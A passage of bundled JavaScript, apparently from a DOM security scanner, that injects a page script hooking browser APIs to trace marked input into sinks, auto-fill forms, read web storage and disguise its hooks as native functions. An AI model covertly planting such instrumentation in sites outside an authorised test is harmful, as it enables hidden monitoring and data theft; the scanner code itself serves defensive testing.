exited: exited
};
}
function killGroup({pid: pid}) {
if (pid === undefined) return;
try {
process.kill(-pid, "SIGKILL");
} catch {}
}
function removeProfile(profile) {
try {
(0, external_node_fs_.rmSync)(profile, {
recursive: true,
force: true,
maxRetries: 5,
retryDelay: 20
});
} catch {}
}
var contract_coverage = __webpack_require__(22652);
const PAGE_SCRIPT = [ "(function() {", '\tvar CALLED_BACK = "called back";', "\tvar CONFIG = SCAN_GATE_CONFIG;", "\tvar REPORTS_MAX = 3e3;", "\tvar TEXT_MAX$1 = 2e3;", "\tvar scope = globalThis;", "\tvar send = scope[CONFIG.binding];", "\tdelete scope[CONFIG.binding];", "\tvar stringify = JSON.stringify;", "\tvar isArray = Array.isArray;", "\tvar keysOf = Object.keys;", "\tvar toText = String;", "\tvar reports = 0;", "\tfunction isWanted() {", '\t\treturn typeof send === "function";', "\t}", "\tfunction report(observation) {", "\t\treports += 1;", "\t\tif (reports > REPORTS_MAX) return;", "\t\ttry {", "\t\t\tsend?.(jsonOf(observation));", "\t\t} catch {}", "\t}", "\tfunction jsonOf(value) {", '\t\tif (typeof value !== "object" || value === null) return stringify(value) ?? "null";', "\t\treturn isArray(value) ? jsonOfList(value) : jsonOfObject(value);", "\t}", "\tfunction jsonOfList(list) {", '\t\tlet items = "";', '\t\tfor (let at = 0; at < list.length; at += 1) items += `${at === 0 ? "" : ","}${jsonOf(list[at])}`;', "\t\treturn `[${items}]`;", "\t}", "\tfunction jsonOfObject(value) {", '\t\tlet members = "";', "\t\tconst keys = keysOf(value);", "\t\tfor (let at = 0; at < keys.length; at += 1) {", "\t\t\tconst key = keys[at];", '\t\t\tif (value[key] !== void 0) members += `${members === "" ? "" : ","}${stringify(key)}:${jsonOf(value[key])}`;', "\t\t}", "\t\treturn `{${members}}`;", "\t}", "\tfunction bounded(text) {", "\t\ttry {", "\t\t\treturn toText(text).slice(0, TEXT_MAX$1);", "\t\t} catch {", '\t\t\treturn "";', "\t\t}", "\t}", "\tfunction attempt(step) {", "\t\ttry {", "\t\t\tstep();", "\t\t} catch {}", "\t}", "\tvar ELEMENTS_MAX = 2e4;", "\tfunction allElements() {", "\t\tconst found = [];", "\t\tconst walk = (root) => {", '\t\t\tfor (const element of root.querySelectorAll("*")) {', "\t\t\t\tif (found.length >= ELEMENTS_MAX) return;", "\t\t\t\tfound.push(element);", "\t\t\t\tif (element.shadowRoot !== null) walk(element.shadowRoot);", "\t\t\t\tconst inner = innerDocument(element);", "\t\t\t\tif (inner !== null) walk(inner);", "\t\t\t}", "\t\t};", "\t\twalk(document);", "\t\treturn found;", "\t}", "\tfunction innerDocument(element) {", '\t\tif (element.localName !== "iframe" && element.localName !== "frame") return null;', "\t\ttry {", "\t\t\treturn element.contentDocument;", "\t\t} catch {", "\t\t\treturn null;", "\t\t}", "\t}", "\tvar call = Reflect.apply;", "\tvar originals = /* @__PURE__ */ new WeakMap();", "\tvar lookUp = WeakMap.prototype.get;", "\tvar remember = WeakMap.prototype.set;", "\tvar toSource = Function.prototype.toString;", "\tfunction disguised(original, run) {", "\t\treturn asNative(new Proxy(original, { apply: (_target, self, values) => run(self, values) }), original);", "\t}", "\tfunction asNative(proxy, original) {", "\t\tcall(remember, originals, [proxy, original]);", "\t\treturn proxy;", "\t}", "\tfunction replaceMethod(owner, name, run) {", "\t\tconst own = Object.getOwnPropertyDescriptor(owner, name);", "\t\tconst original = own?.value;", '\t\tif (own === void 0 || typeof original !== "function") return;', "\t\tconst value = disguised(original, (self, values) => run(original, self, values));", "\t\tObject.defineProperty(owner, name, {", "\t\t\t...own,", "\t\t\tvalue", "\t\t});", "\t}", "\tfunction callOriginal(original, self, values) {", "\t\treturn call(original, self, values);", "\t}", "\tfunction hideReplacements() {", '\t\treplaceMethod(Function.prototype, "toString", (_original, self) => call(toSource, call(lookUp, originals, [self]) ?? self, []));', "\t}", "\tvar USER_EVENTS = /^(?:click|dblclick|auxclick|contextmenu|mouse(?:over|out|enter|leave|down|up|move)|pointer(?:down|up|over|enter)|touch(?:start|end)|key(?:up|down|press)|change|input|submit|focus|blur)$/;", "\tvar FRAMEWORK_KEY = /^(?:__|\\$\\$)(click|mousedown|input|change)$/;", "\tvar known = /* @__PURE__ */ new WeakMap();", "\tvar add = EventTarget.prototype.addEventListener;", "\tfunction listen(target, type, listener) {", "\t\tadd.call(target, type, listener, { once: true });", "\t}", "\tfunction watchListeners() {", '\t\treplaceMethod(EventTarget.prototype, "addEventListener", (original, self, values) => {', "\t\t\tconst [type, listener] = values;", "\t\t\tattempt(() => {", '\t\t\t\tif (type === "message" && (self === globalThis || self === void 0)) reportHandler(listener);', '\t\t\t\tif (self instanceof Element && typeof type === "string" && USER_EVENTS.test(type)) {', "\t\t\t\t\tconst events = known.get(self) ?? /* @__PURE__ */ new Set();", "\t\t\t\t\tknown.set(self, events.add(type));", "\t\t\t\t}", "\t\t\t});", "\t\t\treturn callOriginal(original, self, values);", "\t\t});", "\t\tattempt(watchOnMessage);", "\t}", "\tfunction reportHandler(listener) {", "\t\tif (listener === null || listener === void 0) return;", '\t\tconst handler = typeof listener === "object" ? listener.handleEvent : listener;', "\t\treport({", '\t\t\tkind: "message-handler",', "\t\t\tsource: String(handler).slice(0, 8e3)", "\t\t});", "\t}", "\tfunction watchOnMessage() {", '\t\tconst own = Object.getOwnPropertyDescriptor(window, "onmessage");', "\t\tif (own?.set === void 0) return;", "\t\tconst { get, set } = own;", '\t\tObject.defineProperty(window, "onmessage", {', "\t\t\t...own,", "\t\t\t...get === void 0 ? {} : { get },", "\t\t\tset: disguised(set, (self, [handler]) => {", "\t\t\t\tattempt(() => reportHandler(handler));", "\t\t\t\treturn callOriginal(set, self, [handler]);", "\t\t\t})", "\t\t});", "\t}", "\tvar HANDLER_PROPERTIES = [", '\t\t"click",', '\t\t"mousedown",', '\t\t"mouseup",', '\t\t"mouseover",', '\t\t"mouseout",', '\t\t"dblclick",', '\t\t"change",', '\t\t"keyup"', "\t];", "\tfunction eventsOf(element) {", "\t\tconst properties = element;", "\t\tconst inAttributes = [...element.attributes].flatMap(({ name }) => /^on([a-z]+)$/.exec(name)?.[1] ?? []);", "\t\treturn /* @__PURE__ */ new Set([", "\t\t\t...known.get(element) ?? [],", "\t\t\t...inAttributes.filter((type) => USER_EVENTS.test(type)),", '\t\t\t...HANDLER_PROPERTIES.filter((type) => typeof properties[`on${type}`] === "function"),', "\t\t\t...Object.getOwnPropertyNames(element).flatMap((key) => frameworkEvents(key, properties)),", "\t\t\t...vueEvents(element, properties)", "\t\t]);", "\t}", "\tfunction frameworkEvents(key, properties) {", '\t\tif (key.startsWith("__reactProps$") || key.startsWith("__reactEventHandlers$")) return reactEvents(properties[key]);', "\t\tconst type = FRAMEWORK_KEY.exec(key)?.[1];", "\t\treturn type === void 0 ? [] : [type];", "\t}", "\tfunction vueEvents(element, properties) {", '\t\treturn ["_vei", ...Object.getOwnPropertySymbols(element).filter(({ description }) => description === "_vei")].flatMap((key) => Object.keys(properties[key] ?? {})).map((name) => name.replace(/^on/, "").toLowerCase());', "\t}", "\tfunction reactEvents(props) {", "\t\treturn Object.entries(props ?? {}).flatMap(([name, value]) => {", '\t\t\tconst type = /^on([A-Z]\\w*)$/.exec(name)?.[1]?.toLowerCase().replace("doubleclick", "dblclick");', '\t\t\treturn type !== void 0 && typeof value === "function" && USER_EVENTS.test(type) ? [type] : [];', "\t\t});", "\t}", "\tfunction watchComparisons(foreignHost) {", '\t\tif (foreignHost === "") return;', "\t\tconst contains = String.prototype.includes;", "\t\tconst hook = (owner, name, read) => replaceMethod(owner, name, (original, self, values) => {", "\t\t\tattempt(() => {", "\t\t\t\tconst [subject, other] = read(self, values[0]);", '\t\t\t\tif ((typeof subject === "string" || subject instanceof String) && subject.length < 300 && contains.call(subject, foreignHost)) report({', '\t\t\t\t\tkind: "comparison",', "\t\t\t\t\tname,", "\t\t\t\t\ttext: bounded(other instanceof RegExp ? other.source : other)", "\t\t\t\t});", "\t\t\t});", "\t\t\treturn callOriginal(original, self, values);", "\t\t});", "\t\tfor (const name of [", '\t\t\t"includes",', '\t\t\t"indexOf",', '\t\t\t"startsWith",', '\t\t\t"endsWith",', '\t\t\t"match",', '\t\t\t"search"', "\t\t]) hook(String.prototype, name, (self, argument) => [self, argument]);", '\t\tfor (const name of ["test", "exec"]) hook(RegExp.prototype, name, (self, argument) => [argument, self]);', "\t}", "\tfunction setValue(element, value) {", '\t\tconst property = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(element), "value");', "\t\tif (property?.set === void 0) element.value = value;", "\t\telse property.set.call(element, value);", "\t}", "\tfunction enterText(element, value) {", "\t\ttried(() => element.focus());", "\t\tsetValue(element, value);", "\t\tfor (const type of [", '\t\t\t"input",', '\t\t\t"keyup",', '\t\t\t"change",', '\t\t\t"blur"', "\t\t]) tried(() => element.dispatchEvent(new Event(type, {", '\t\t\tbubbles: type !== "blur",', "\t\t\tcomposed: true", "\t\t})));", "\t}", "\tfunction tried(step) {", "\t\ttry {", "\t\t\tstep();", "\t\t} catch {}", "\t}", "\tvar ACTIONS_MAX = 300;", "\tvar NOT_TYPED = /^(?:hidden|submit|button|image|radio|checkbox|file|reset|range|color)$/i;", "\tvar SCRIPT_LINK = /^\\s*(?:javascript:|#?$)/i;", "\tvar byId = /* @__PURE__ */ new Map();", "\tvar ids = /* @__PURE__ */ new WeakMap();", "\tfunction pageActions() {", "\t\tconst found = [];", "\t\tfor (const element of allElements()) {", "\t\t\tif (found.length >= ACTIONS_MAX) break;", "\t\t\tconst events = eventsOf(element);", "\t\t\tif (!isAction(element, events)) continue;", "\t\t\tconst label = labelOf(element);", "\t\t\tfound.push({", "\t\t\t\tid: idOf(element),", "\t\t\t\tsignature: signatureOf(element, label, events),", "\t\t\t\tlabel,", "\t\t\t\tsubmits: isSubmit(element)", "\t\t\t});", "\t\t}", "\t\treturn found;", "\t}", "\tfunction idOf(element) {", "\t\tconst id = ids.get(element) ?? byId.size + 1;", "\t\tids.set(element, id);", "\t\tbyId.set(id, new WeakRef(element));", "\t\treturn id;", "\t}", "\tfunction elementOf(id) {", "\t\tconst element = byId.get(id)?.deref();", "\t\treturn element?.isConnected === true ? element : null;", "\t}", "\tfunction isAction(element, events) {", "\t\tconst tag = element.localName;", '\t\tif ((tag === "body" || tag === "html") && events.size === 0) return false;', '\t\tconst href = tag === "a" ? element.getAttribute("href") : null;', '\t\tif (href !== null && !SCRIPT_LINK.test(href)) return [...events].some((type) => type !== "click");', '\t\tif (events.size > 0 || tag === "button" || tag === "summary" || tag === "select" || href !== null) return true;', '\t\tif (tag === "input" && /^(?:submit|button|image)$/i.test(element.type)) return true;', '\t\tif (/^(?:button|menuitem|tab|link|option)$/.test(element.getAttribute("role") ?? "")) return true;', "\t\treturn element.children.length < 4 && hasOwnPointer(element);", "\t}", "\tfunction hasOwnPointer(element) {", '\t\tif (getComputedStyle(element).cursor !== "pointer") return false;', '\t\treturn element.parentElement === null || getComputedStyle(element.parentElement).cursor !== "pointer";', "\t}", "\tfunction isSubmit(element) {", "\t\tconst type = element.type;", '\t\treturn element.form != null && (type === "submit" || type === "image");', "\t}", "\tfunction labelOf(element) {", "\t\tconst value = element.value;", '\t\treturn (element.getAttribute("aria-label") ?? (typeof value === "string" && value !== "" ? value : null) ?? element.textContent ?? "").slice(0, 200).replace(/\\s+/g, " ").trim().slice(0, 40);', "\t}", "\tfunction signatureOf(element, label, events) {", "\t\tconst path = [];", '\t\tfor (let at = element; at?.parentElement != null && path.length < 4; at = at.parentElement) path.unshift(at.localName + (at.id === "" ? "" : `#${at.id}`));', "\t\tconst code = [", '\t\t\t"onclick",', '\t\t\t"href",', '\t\t\t"name",', '\t\t\t"formaction",', '\t\t\t"onmousedown",', '\t\t\t"onmouseover"', '\t\t].map((name) => (element.getAttribute(name) ?? "").slice(0, 80));', "\t\treturn [", '\t\t\tpath.join(">"),', "\t\t\tlabel,", '\t\t\t[...events].sort().join(","),', "\t\t\t...code", '\t\t].join("|").slice(0, 600);', "\t}", "\tvar ALWAYS = [", '\t\t"pointerover",', '\t\t"mouseover",', '\t\t"pointerdown",', '\t\t"mousedown",', '\t\t"pointerup",', '\t\t"mouseup"', "\t];", "\tvar BEFORE_CLICK = [", '\t\t"pointerover",', '\t\t"mouseover",', '\t\t"mouseenter",', '\t\t"mousemove",', '\t\t"pointerdown",', '\t\t"mousedown",', '\t\t"focus",', '\t\t"pointerup",', '\t\t"mouseup"', "\t];", "\tvar AFTER_CLICK = [", '\t\t"dblclick",', '\t\t"auxclick",', '\t\t"contextmenu",', '\t\t"touchstart",', '\t\t"touchend",', '\t\t"keydown",', '\t\t"keypress",', '\t\t"keyup",', '\t\t"change",', '\t\t"input",', '\t\t"mouseout",', '\t\t"mouseleave",', '\t\t"blur",', '\t\t"submit"', "\t];", "\tfunction act(id) {", "\t\tconst element = elementOf(id);", "\t\tif (element === null) return false;", '\t\tconst form = element.form ?? element.closest("form");', "\t\tattempt(() => fill(form === null ? allElements().filter(isLoose) : [...form.elements]));", "\t\tconst events = eventsOf(element);", "\t\tconst fire = (type) => attempt(() => void element.dispatchEvent(eventOf(type)));", "\t\tfor (const early of BEFORE_CLICK) if (events.has(early) || ALWAYS.includes(early)) fire(early);", "\t\tuse(element, fire);", '\t\tfor (const late of AFTER_CLICK) if (events.has(late) && (late !== "submit" || element instanceof HTMLFormElement)) fire(late);', "\t\treturn true;", "\t}", "\tfunction use(element, fire) {", "\t\tif (element instanceof HTMLSelectElement) choose(element, fire);", "\t\telse if (isTyped(element)) type(element, fire);", "\t\telse if (element instanceof HTMLElement) attempt(() => element.click());", '\t\telse fire("click");', "\t}", "\tfunction choose(select, fire) {", "\t\tselect.selectedIndex = Math.min(select.options.length - 1, select.selectedIndex + 1);", '\t\tfire("input");', '\t\tfire("change");', "\t}", "\tfunction isTextInput(element) {", '\t\treturn element.localName === "input" && !NOT_TYPED.test(element.type);', "\t}", "\tfunction isTyped(element) {", "\t\tif (element instanceof HTMLTextAreaElement) return true;", "\t\treturn element instanceof HTMLInputElement && !NOT_TYPED.test(element.type);", "\t}", "\tfunction type(element, fire) {", "\t\tsetValue(element, valueFor(element));", "\t\tfor (const event of [", '\t\t\t"keydown",', '\t\t\t"keypress",', '\t\t\t"input",', '\t\t\t"keyup",', '\t\t\t"change"', "\t\t]) fire(event);", "\t\tif (element instanceof HTMLInputElement) for (const event of [", '\t\t\t"keydown",', '\t\t\t"keypress",', '\t\t\t"keyup"', "\t\t]) attempt(() => void element.dispatchEvent(enterOf(event)));", "\t}", "\tfunction enterOf(type) {", "\t\treturn new KeyboardEvent(type, {", "\t\t\tbubbles: true,", "\t\t\tcancelable: true,", "\t\t\tcomposed: true,", "\t\t\tview: window,", '\t\t\tkey: "Enter",', '\t\t\tcode: "Enter",', "\t\t\tkeyCode: 13,", "\t\t\twhich: 13", "\t\t});", "\t}", "\tfunction eventOf(type) {", "\t\tconst init = {", "\t\t\tbubbles: !/enter|leave|focus|blur/.test(type),", "\t\t\tcancelable: true,", "\t\t\tcomposed: true,", "\t\t\tview: window", "\t\t};", '\t\tif (type.startsWith("key")) return new KeyboardEvent(type, {', "\t\t\t...init,", '\t\t\tkey: "a"', "\t\t});", '\t\tif (type.startsWith("pointer")) return new PointerEvent(type, init);', "\t\tif (/^(?:mouse|click|dblclick|auxclick|contextmenu)/.test(type)) return new MouseEvent(type, init);", "\t\treturn new Event(type, init);", "\t}", "\tfunction valueFor(element) {", '\t\tif (element.type === "email") return `${CONFIG.word}@example.com`;', '\t\tif (element.type === "number") return "1";', '\t\tif (element.type === "date") return "2024-01-01";', '\t\tif (element.type === "url") return "https://example.com/";', "\t\treturn CONFIG.word;", "\t}", "\tfunction isLoose(element) {", "\t\treturn isTyped(element) && element.form === null;", "\t}", "\tfunction fill(elements) {", '\t\tfor (const element of elements) if (isTyped(element) && element.value === "") {', "\t\t\tsetValue(element, valueFor(element));", '\t\t\telement.dispatchEvent(new Event("input", { bubbles: true }));', "\t\t}", "\t}", "\tfunction watchNavigation() {", '\t\tfor (const name of ["pushState", "replaceState"]) replaceMethod(History.prototype, name, (original, self, values) => {', "\t\t\tconst url = values[2];", "\t\t\tif (url !== null && url !== void 0) attempt(() => reportRoute(String(url)));", "\t\t\treturn callOriginal(original, self, values);", "\t\t});", '\t\treplaceMethod(window, "open", (_original, _self, [url]) => {', '\t\t\tif (url !== void 0 && url !== "") {', "\t\t\t\tattempt(() => reportOpened(String(url)));", '\t\t\t\tif (CONFIG.mode === "prove") attempt(() => openInFrame(String(url)));', "\t\t\t}", "\t\t\treturn null;", "\t\t});", '\t\tfor (const name of ["print", "close"]) replaceMethod(window, name, () => void 0);', "\t\tattempt(withoutServiceWorkers);", "\t\tattempt(watchParameters);", "\t\tattempt(watchSockets);", "\t}", "\tfunction reportRoute(url) {", "\t\treport({", '\t\t\tkind: "route",', "\t\t\turl: bounded(new URL(url, document.baseURI).href)", "\t\t});", "\t}", "\tfunction reportOpened(url) {", "\t\tfor (const mark of CONFIG.marks) if (url.toLowerCase().startsWith(mark)) report({", '\t\t\tkind: "sink",', '\t\t\tsinkKind: "url",', '\t\t\tsink: "window.open",', "\t\t\tmark,", "\t\t\ttext: bounded(url),", "\t\t\tat: 0", "\t\t});", "\t\tif (!/^\\s*javascript:/i.test(url)) reportRoute(url);", "\t}", "\tfunction openInFrame(url) {", '\t\tconst frame = document.createElement("iframe");', "\t\tframe.src = url;", "\t\tdocument.body.append(frame);", "\t}", "\tfunction withoutServiceWorkers() {", '\t\tif (!("serviceWorker" in navigator)) return;', '\t\treplaceMethod(ServiceWorkerContainer.prototype, "register", () => Promise.reject(new DOMException("not allowed", "SecurityError")));', "\t}", "\tfunction watchParameters() {", "\t\tfor (const name of [", '\t\t\t"get",', '\t\t\t"getAll",', '\t\t\t"has"', "\t\t]) replaceMethod(URLSearchParams.prototype, name, (original, self, values) => {", "\t\t\tattempt(() => {", "\t\t\t\tconst text = String(self);", '\t\t\t\tconst inFragment = text !== "" ? location.hash.includes(text) : location.hash.includes("?");', "\t\t\t\treport({", '\t\t\t\t\tkind: "parameter",', "\t\t\t\t\tname: bounded(values[0]).slice(0, 60),", "\t\t\t\t\tinFragment", "\t\t\t\t});", "\t\t\t});", "\t\t\treturn callOriginal(original, self, values);", "\t\t});", "\t}", "\tfunction watchSockets() {", "\t\tconst Original = WebSocket;", "\t\tconst watched = new Proxy(Original, { construct: (target, values, newTarget) => {", "\t\t\tattempt(() => report({", '\t\t\t\tkind: "socket",', "\t\t\t\turl: bounded(new URL(String(values[0]), document.baseURI).href)", "\t\t\t}));", "\t\t\treturn Reflect.construct(target, values, newTarget);", "\t\t} });", "\t\tOriginal.prototype.constructor = watched;", "\t\twindow.WebSocket = asNative(watched, Original);", "\t}", "\tvar SHORT_MS = 600;", "\tvar TIMERS_MAX = 300;", "\tvar open = /* @__PURE__ */ new Set();", "\tvar counted = 0;", "\tvar mutations = 0;", "\tfunction watchActivity() {", '\t\treplaceMethod(window, "setTimeout", (original, self, values) => {', "\t\t\tconst [handler, ms, ...rest] = values;", '\t\t\tif (typeof handler !== "function" || Number(ms ?? 0) > SHORT_MS || counted >= TIMERS_MAX) return callOriginal(original, self, values);', "\t\t\tcounted += 1;", "\t\t\tconst run = (...given) => {", "\t\t\t\topen.delete(id);", "\t\t\t\treturn handler(...given);", "\t\t\t};", "\t\t\tconst id = callOriginal(original, self, [", "\t\t\t\trun,", "\t\t\t\tms,", "\t\t\t\t...rest", "\t\t\t]);", "\t\t\topen.add(id);", "\t\t\treturn id;", "\t\t});", '\t\treplaceMethod(window, "clearTimeout", (original, self, values) => {', "\t\t\topen.delete(values[0]);", "\t\t\treturn callOriginal(original, self, values);", "\t\t});", "\t\tconst observe = () => attempt(() => new MutationObserver(() => {", "\t\t\tmutations += 1;", "\t\t}).observe(document, {", "\t\t\tchildList: true,", "\t\t\tsubtree: true", "\t\t}));", '\t\tif (document.documentElement === null) listen(document, "DOMContentLoaded", observe);', "\t\telse observe();", "\t}", "\tvar FRAME_MS = 250;", "\tvar { requestAnimationFrame: onFrame, requestIdleCallback: onIdle, setTimeout: later } = window;", "\tasync function idle() {", "\t\tconst before = mutations;", "\t\tlet hasFrame = false;", "\t\tlet isIdle = false;", "\t\tawait new Promise((resolve) => {", "\t\t\tlater(resolve, FRAME_MS);", "\t\t\tonFrame(() => {", "\t\t\t\thasFrame = true;", "\t\t\t\tonIdle(() => {", "\t\t\t\t\tisIdle = true;", "\t\t\t\t\tresolve();", "\t\t\t\t});", "\t\t\t});", "\t\t});", "\t\treturn {", "\t\t\ttimers: open.size,", "\t\t\tisStill: mutations === before,", "\t\t\thasFrame,", "\t\t\tisIdle", "\t\t};", "\t}", '\tvar FIELD_HINTS = "name id autocomplete placeholder aria-label title formcontrolname data-testid".split(" ");', "\tvar FIELDS_MAX = 100;", "\tvar BUTTONS_MAX = 100;", "\tvar LINKS_MAX$2 = 100;", "\tvar DEPTH_MAX = 60;", "\tvar ITEMS_MAX = 50;", "\tvar VALUE_MAX = 16384;", '\tvar BUTTON = "button, input[type=submit], input[type=button], input[type=image], [role=button]";', "\tvar OF_FIELD = /\\b(?:show|hide|display|reveal|toggle|clear|visibility\\w*)\\b/i;", '\tvar CAPTCHA = ".g-recaptcha, .h-captcha, .cf-turnstile, iframe[src*=\\"captcha\\"], script[src*=\\"captcha\\"]";', "\tfunction loginView() {", "\t\tconst all = allElements();", "\t\tconst shown = all.filter((element) => element.matches(`input, ${BUTTON}`) || /-button$/.test(element.localName));", "\t\tconst useful = shown.filter((element) => !isTextInput(element) && isShown(element)).slice(0, BUTTONS_MAX).filter((button) => !OF_FIELD.test(labelOf(button)));", "\t\tconst fields = shown.filter((element) => isTextInput(element) && isShown(element)).slice(0, FIELDS_MAX);", "\t\tconst groups = Map.groupBy(fields, formOf);", "\t\treturn {", "\t\t\turl: bounded(location.href),", "\t\t\ttitles: [document.title, ...all.filter(({ localName }) => /^h[1-3]$/.test(localName)).map(textOf)].slice(0, 10),", "\t\t\tforms: [...groups].map(([form, inside]) => ({", "\t\t\t\tfields: inside.map(fieldOf),", "\t\t\t\tbuttons: buttonsOf(form ?? inside.at(-1) ?? document.body, useful)", "\t\t\t})),", '\t\t\tlinks: all.filter(({ localName }) => localName === "a").filter((link) => link.href !== "" && isShown(link)).slice(0, LINKS_MAX$2).map((link) => ({', "\t\t\t\turl: bounded(link.href),", "\t\t\t\ttext: labelOf(link)", "\t\t\t})),", "\t\t\thasCaptcha: all.some((element) => element.matches(CAPTCHA))", "\t\t};", "\t}", "\tfunction isShown(element) {", "\t\tconst { disabled } = element;", "\t\treturn disabled !== true && element.getClientRects().length > 0 && element.checkVisibility({ visibilityProperty: true });", "\t}", "\tfunction parentOf(element) {", "\t\treturn element.parentElement ?? element.getRootNode().host ?? null;", "\t}", "\tfunction ancestors(element) {", "\t\tconst found = [];", "\t\tfor (let at = element; at !== null && found.length < DEPTH_MAX; at = parentOf(at)) found.push(at);", "\t\treturn found;", "\t}", "\tfunction formOf(element) {", '\t\treturn element.form ?? ancestors(element).find(({ localName }) => localName === "form") ?? null;', "\t}", "\tfunction buttonsOf(start, buttons) {", "\t\tconst around = buttons.map((button) => ({", "\t\t\tbutton,", "\t\t\twithin: new Set(ancestors(button))", "\t\t}));", "\t\tfor (const place of ancestors(start)) {", "\t\t\tconst inside = around.filter(({ within }) => within.has(place));", "\t\t\tif (inside.length > 0) return inside.map(({ button }) => ({", "\t\t\t\tid: idOf(button),", "\t\t\t\ttext: labelOf(button).toLowerCase()", "\t\t\t}));", "\t\t}", "\t\treturn [];", "\t}", "\tfunction fieldOf(input) {", "\t\tconst labels = [...input.labels ?? []].map(textOf);", '\t\tconst named = (input.getAttribute("aria-labelledby") ?? "").split(/\\s+/).slice(0, 5);', "\t\tconst root = input.getRootNode();", '\t\tconst others = named.map((id) => id === "" ? null : root.getElementById(id)).map(textOf);', '\t\tconst attributes = FIELD_HINTS.map((name) => (input.getAttribute(name) ?? "").slice(0, 200));', "\t\treturn {", "\t\t\tid: idOf(input),", "\t\t\tname: input.name.slice(0, 100),", "\t\t\ttype: input.type,", "\t\t\thint: [", "\t\t\t\t...attributes,", "\t\t\t\t...labels,", "\t\t\t\t...others", '\t\t\t].join(" ").toLowerCase(),', '\t\t\tautocomplete: (input.getAttribute("autocomplete") ?? "").toLowerCase().slice(0, 100)', "\t\t};", "\t}", "\tfunction textOf(element) {", '\t\treturn (element?.textContent ?? "").trim().slice(0, 200);', "\t}", "\tfunction fillField(id, value) {", "\t\tconst input = elementOf(id);", "\t\tif (input === null) return false;", "\t\tenterText(input, value);", "\t\treturn true;", "\t}", "\tfunction focusField(id) {", "\t\tattempt(() => elementOf(id)?.focus());", "\t}", "\tfunction pressButton(id) {", "\t\tattempt(() => elementOf(id)?.click());", "\t}", "\tfunction storedItems() {", "\t\treturn {", '\t\t\tlocalStorage: itemsOf("localStorage"),', '\t\t\tsessionStorage: itemsOf("sessionStorage")', "\t\t};", "\t}", "\tfunction itemsOf(name) {", "\t\tconst found = {};", "\t\tattempt(() => {", '\t\t\tfor (const [key, value] of Object.entries(window[name]).slice(0, ITEMS_MAX)) if (typeof value === "string" && key.length <= 200 && value.length <= VALUE_MAX) found[key] = value;', "\t\t});", "\t\treturn found;", "\t}", "\tvar BEFORE = 120;", "\tvar AFTER = 160;", "\tfunction note(sinkKind, sink, value) {", "\t\tconst lower = value.toLowerCase();", "\t\tfor (const mark of CONFIG.marks) {", "\t\t\tconst found = lower.indexOf(mark);", "\t\t\tif (found === -1) continue;", "\t\t\tconst from = Math.max(0, found - BEFORE);", "\t\t\tconst text = value.slice(from, found + AFTER);", "\t\t\treport({", '\t\t\t\tkind: "sink",', "\t\t\t\tsinkKind,", "\t\t\t\tsink: bounded(sink).slice(0, 80),", "\t\t\t\tmark,", "\t\t\t\ttext,", "\t\t\t\tat: found - from", "\t\t\t});", "\t\t}", "\t}", "\tfunction watchSinks() {", "\t\tconst factory = window.trustedTypes;", '\t\tif (CONFIG.mode !== "observe" || factory === void 0) return;', "\t\tconst create = factory.createPolicy.bind(factory);", "\t\tconst prototype = Object.getPrototypeOf(factory);", "\t\tconst wrapped = (rule, kind, policy) => rule && function(text, ...rest) {", "\t\t\tattempt(() => note(kind, `policy ${policy}`, String(text)));", "\t\t\treturn rule.call(this, text, ...rest);", "\t\t};", "\t\tconst defined = (rules) => Object.fromEntries(Object.entries(rules).filter(([, rule]) => rule !== void 0));", '\t\treplaceMethod(prototype, "createPolicy", (original, self, [given, some]) => {', "\t\t\tconst name = String(given);", "\t\t\tconst rules = some ?? {};", "\t\t\treturn callOriginal(original, self, [name, defined({", '\t\t\t\tcreateHTML: wrapped(rules.createHTML, "html", name),', '\t\t\t\tcreateScript: wrapped(rules.createScript, "script", name),', '\t\t\t\tcreateScriptURL: wrapped(rules.createScriptURL, "url", name)', "\t\t\t})]);", "\t\t});", "\t\tconst observed = (kind) => (value, _type, sink) => {", "\t\t\tconst text = String(value);", "\t\t\tattempt(() => note(kind, String(sink), text));", "\t\t\treturn text;", "\t\t};", '\t\tattempt(() => create("default", {', '\t\t\tcreateHTML: observed("html"),', '\t\t\tcreateScript: observed("script"),', '\t\t\tcreateScriptURL: observed("url")', "\t\t}));", "\t\thideDefaultPolicy(prototype);", "\t}", "\tfunction hideDefaultPolicy(prototype) {", '\t\tconst own = Object.getOwnPropertyDescriptor(prototype, "defaultPolicy");', "\t\tif (own?.get === void 0) return;", '\t\tObject.defineProperty(prototype, "defaultPolicy", {', "\t\t\t...own,", "\t\t\tget: disguised(own.get, () => null)", "\t\t});", "\t}", "\tvar URL_ATTRIBUTES = /* @__PURE__ */ new Set([", '\t\t"href",', '\t\t"action",', '\t\t"formaction",', '\t\t"src",', '\t\t"data",', '\t\t"xlink:href"', "\t]);", "\tfunction markedAttributes() {", "\t\tconst found = [];", "\t\tfor (const element of allElements()) for (const { name, value } of element.attributes) for (const mark of CONFIG.marks) {", "\t\t\tconst lower = value.slice(0, 4e3).toLowerCase();", "\t\t\tconst isUrl = URL_ATTRIBUTES.has(name) && lower.trimStart().startsWith(mark);", '\t\t\tconst isHandler = name.startsWith("on") && lower.includes(mark);', "\t\t\tif ((isUrl || isHandler) && found.length < 50) found.push({", "\t\t\t\tname,", "\t\t\t\ttag: element.localName,", "\t\t\t\tmark,", "\t\t\t\tvalue: bounded(value)", "\t\t\t});", "\t\t}", "\t\treturn found;", "\t}", "\tvar PRESSED = /* @__PURE__ */ new Set([", '\t\t"click",', '\t\t"mouseover",', '\t\t"focus"', "\t]);", "\tfunction pressMarked(needle) {", "\t\tlet pressed = 0;", "\t\tfor (const element of allElements()) {", "\t\t\tif (![...element.attributes].some(({ value }) => value.includes(needle))) continue;", "\t\t\tpressed += 1;", "\t\t\tattempt(() => press(element));", "\t\t}", "\t\tif (pressed > 0) return pressed;", "\t\tconst listening = allElements().filter((element) => [...eventsOf(element)].some((type) => PRESSED.has(type)));", "\t\tfor (const element of listening.slice(0, 20)) attempt(() => press(element));", "\t\treturn pressed;", "\t}", "\tfunction press(element) {", "\t\tif (element instanceof HTMLFormElement) element.requestSubmit();", "\t\telse if (element instanceof HTMLElement) element.click();", '\t\telse element.dispatchEvent(new MouseEvent("click", {', "\t\t\tbubbles: true,", "\t\t\tcancelable: true,", "\t\t\tview: window", "\t\t}));", '\t\tfor (const type of ["mouseover", "focus"]) element.dispatchEvent(new Event(type));', "\t}", "\tvar NODES_MAX = 5e3;", "\tvar ROUTES_MAX = 200;", "\tfunction routerPaths() {", "\t\tconst found = /* @__PURE__ */ new Set();", "\t\tconst add = (path) => {", '\t\t\tif (typeof path !== "string" || path === "" || path.includes("*") || path.includes("(.*)")) 